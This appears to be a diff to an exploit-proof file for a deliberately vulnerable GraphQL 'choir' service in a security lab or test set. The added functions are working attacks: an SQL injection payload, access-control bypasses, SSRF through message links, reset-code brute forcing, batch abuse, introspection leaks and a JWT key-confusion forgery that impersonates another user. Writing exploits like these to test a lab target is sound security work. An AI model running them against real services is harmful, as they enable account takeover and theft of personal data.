@@ -1,6 +1,9 @@
 """The exploits for the third set: one for each weakness, by service and name."""
 
+import base64
 import contextlib
+import hmac
+import json
 import re
 import statistics
 import threading
@@ -8,6 +11,8 @@ import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import common
+import jwt
+from cryptography.hazmat.primitives import serialization
 
 PROOFS = {}
 SIGN_IN = {}
@@ -152,3 +157,90 @@ def _(client):
         return statistics.median(client.post("/login", data={"username": name, "password": "x"}).elapsed.total_seconds() for name in names)
 
     return median(["ann", "ben", "carol", "olga"]) > 4 * median(["anna", "benn", "carola", "olgo"])
+
+
+# choir ------------------------------------------------------------------------------------------------------------------------------------
+
+
+def choir_tokens(client, name):
+    query = "mutation($u: String!, $p: String!) {login(username: $u, password: $p) {accessToken refreshToken}}"
+    return client.ask(query, u=name, p=PASSWORD[name]).json()["data"]["login"]
+
+
+@sign_in("choir")
+def _(client, name):
+    return {"Authorization": "Bearer " + choir_tokens(client, name)["accessToken"]}
+
+
+@proof("choir", "member-fields")
+def _(client):
+    return "GB29NWBK60161331926801" in client.ask("{members {name iban}}", client.as_("ben")).text
+
+
+@proof("choir", "song-sql")
+def _(client):
+    query = "query($filter: SongFilter) {songs(filter: $filter) {title}}"
+    return "unfinished mass" in client.ask(query, client.as_("ann"), filter={"voices": ["alto", "x') OR 1=1 -- "]}).text
+
+
+@proof("choir", "node-read")
+def _(client):
+    return "code" in client.ask('{node(id: "TWVzc2FnZTox") {text}}', client.as_("ben")).text
+
+
+@proof("choir", "date-errors")
+def _(client):
+    return "Traceback" in client.ask('{rehearsals(since: "x") {day}}', client.as_("ann")).text
+
+
+@proof("choir", "member-update")
+def _(client):
+    client.ask('mutation {updateMember(id: "ann", change: {phone: "0999 222"}) {id}}', client.as_("ben"))
+    return "0999 222" in client.ask("{me {phone}}", client.as_("ann")).text
+
+
+@proof("choir", "link-fetch")
+def _(client):
+    with called() as (url, asked, _):
+        client.ask("mutation($message: NewMessage!) {sendMessage(message: $message) {id}}", client.as_("ann"), message={"to": ["olga"], "text": "x", "links": [url + "inner"]})
+        return [path for path, _ in asked] == ["/inner"]
+
+
+@proof("choir", "fee-waive")
+def _(client):
+    client.ask('mutation {waiveFee(member: "ann")}', client.as_("ann"))
+    return "ann: 0" in client.ask("{fees}", client.as_("olga")).text
+
+
+@proof("choir", "code-unlimited")
+def _(client):
+    client.ask('mutation {requestReset(email: "carol@east.example")}')
+    query = 'mutation($c: String!) {resetPassword(email: "carol@east.example", code: $c, password: "aspen-Teapot-37")}'
+    answers = [client.ask(query, c=f"{number:04}").text for number in range(100)]
+    return all("too many" not in answer for answer in answers)
+
+
+@proof("choir", "batch-open")
+def _(client):
+    answer = client.post("/graphql", json=[{"query": "{openingHours}"}] * 500)
+    return answer.status_code == 200 and len(answer.json()) == 500
+
+
+@proof("choir", "type-introspection")
+def _(client):
+    return "iban" in client.ask('{__type(name: "Member") {fields {name}}}').text
+
+
+@proof("choir", "key-confused")
+def _(client):
+    numbers = client.get("/jwks.json").json()["keys"][0]
+    pem = jwt.PyJWK(numbers).key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    claims = jwt.decode(choir_tokens(client, "ann")["accessToken"], options={"verify_signature": False}) | {"sub": "olga", "jti": "x"}
+    head, body = (base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=") for part in ({"alg": "HS256", "typ": "JWT"}, claims))
+    signature = base64.urlsafe_b64encode(hmac.digest(pem, head + b"." + body, "sha256")).rstrip(b"=")
+    return "carol: 60" in client.ask("{fees}", {"Authorization": b"Bearer " + b".".join((head, body, signature))}).text
+
+
+@proof("choir", "refresh-serves")
+def _(client):
+    return client.ask("{me {id}}", {"Authorization": "Bearer " + choir_tokens(client, "ann")["refreshToken"]}).json()["data"] is not None
